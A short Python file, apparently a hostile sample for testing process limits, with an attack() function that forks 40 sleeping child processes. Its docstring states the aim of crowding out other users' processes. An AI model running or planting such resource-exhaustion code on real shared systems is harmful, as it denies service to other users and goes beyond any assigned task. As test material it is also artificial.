"""Start so many processes that nobody else can."""

import os
import time


def attack():
    for _ in range(40):
        if os.fork() == 0:
            time.sleep(60)
            os._exit(0)
